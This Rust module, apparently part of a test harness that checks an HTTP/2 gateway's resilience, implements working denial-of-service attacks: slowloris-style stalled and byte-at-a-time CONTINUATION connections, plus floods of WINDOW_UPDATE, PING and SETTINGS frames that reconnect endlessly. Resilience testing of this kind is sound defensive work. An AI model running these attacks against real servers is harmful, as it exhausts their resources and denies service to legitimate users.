//! HTTP/2 that costs the gateway more than the attacker, or that never becomes a request.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::{ReadHalf, WriteHalf};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::Running;
use super::replies::{PAUSE, path};
use crate::hostile::{Attacker, HostileConnection};
use crate::http2::{self, CONTINUATION, HEADERS, PING, WINDOW_UPDATE};
use crate::run::AttackContext;

/// Connections of each kind.
const SILENT_CONNECTIONS: usize = 20;
const CONTROL_CONNECTIONS: usize = 4;

/// Between two bytes of a request that never ends.
const SLOW_BYTE: Duration = Duration::from_millis(500);

/// Frames that are written at once.
const FRAMES_PER_WRITE: usize = 4_000;

/// How a connection is silent.
#[derive(Clone, Copy, Debug)]
enum Silence {
    /// After the preface.
    Preface,
    /// After half of the frame with the headers.
    HalfHeaders,
    /// Never, but a byte of the headers at a time is all that comes.
    SlowContinuation,
}

pub(super) fn h2_silence(context: AttackContext) -> Running {
    Box::pin(async move {
        let mut connections = JoinSet::new();
        for silence in [Silence::Preface, Silence::HalfHeaders, Silence::SlowContinuation] {
            for _ in 0..context.options.scaled(SILENT_CONNECTIONS) {
                connections.spawn(again_and_again(context.attacker.clone(), silence));
            }
        }
        connections.join_all().await;
    })
}

async fn again_and_again(attacker: Attacker, silence: Silence) {
    loop {
        if let Ok(mut connection) = attacker.connect().await {
            fall_silent(&mut connection, silence).await;
            connection.was_cut();
        }
        sleep(PAUSE).await;
    }
}

/// Returns when the gateway has ended the connection.
async fn fall_silent(connection: &mut HostileConnection, silence: Silence) {
    let block = http2::post_headers(&path(), 10);
    let headers = http2::frame(HEADERS, 0, 1, &block[..4]);
    let begin = match silence {
        Silence::Preface => http2::PREFACE.to_vec(),
        Silence::HalfHeaders => [http2::opening(&[]), headers[..headers.len() - 2].to_vec()].concat(),
        Silence::SlowContinuation => [http2::opening(&[]), headers].concat(),
    };
    let (mut reader, mut writer) = connection.stream.split();
    if writer.write_all(&begin).await.is_err() {
        return;
    }
    let mut rest = block[4..].iter().cycle();
    let mut buffer = [0; 512];
    loop {
        match timeout(SLOW_BYTE, reader.read(&mut buffer)).await {
            Ok(Ok(0) | Err(_)) => return,
            Ok(Ok(_)) => {}
            Err(_) => {
                let (Silence::SlowContinuation, Some(byte)) = (silence, rest.next()) else { continue };
                if writer.write_all(&http2::frame(CONTINUATION, 0, 1, &[*byte])).await.is_err() {
                    return;
                }
            }
        }
    }
}

pub(super) fn h2_control_frames(context: AttackContext) -> Running {
    Box::pin(async move {
        let kinds = [
            http2::frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            http2::frame(PING, 0, 0, &[0; 8]),
            http2::settings(&[]),
        ];
        let mut connections = JoinSet::new();
        for frame in kinds {
            for _ in 0..context.options.scaled(CONTROL_CONNECTIONS) {
                connections.spawn(flood(context.attacker.clone(), frame.repeat(FRAMES_PER_WRITE)));
            }
        }
        connections.join_all().await;
    })
}

async fn flood(attacker: Attacker, frames: Vec<u8>) {
    loop {
        if let Ok(mut connection) = attacker.connect().await {
            let (mut reader, mut writer) = connection.stream.split();
            // Either way the gateway has ended it.
            tokio::select! {
                _ended = read_all(&mut reader) => {}
                _failed = write_forever(&mut writer, &frames) => {}
            }
            connection.was_cut();
        }
        sleep(PAUSE).await;
    }
}

async fn write_forever(writer: &mut WriteHalf<'_>, frames: &[u8]) -> io::Result<()> {
    writer.write_all(&http2::opening(&[])).await?;
    loop {
        writer.write_all(frames).await?;
        // The processor belongs to the gateway and to honest callers.
        sleep(Duration::from_millis(1)).await;
    }
}

async fn read_all(reader: &mut ReadHalf<'_>) -> io::Result<()> {
    let mut buffer = vec![0; 64 << 10];
    while reader.read(&mut buffer).await? > 0 {}
    Ok(())
}
